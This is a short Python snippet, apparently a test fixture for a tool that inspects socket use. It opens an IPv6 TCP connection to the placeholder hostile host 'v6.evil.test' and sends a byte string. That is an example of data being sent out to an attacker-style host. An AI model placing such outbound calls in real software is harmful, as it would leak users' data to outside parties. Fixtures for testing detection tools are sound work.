"""A host name given to an IPv6 socket."""
import socket

client = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
client.connect(("v6.evil.test", 80, 0, 0))
client.send(b"data")
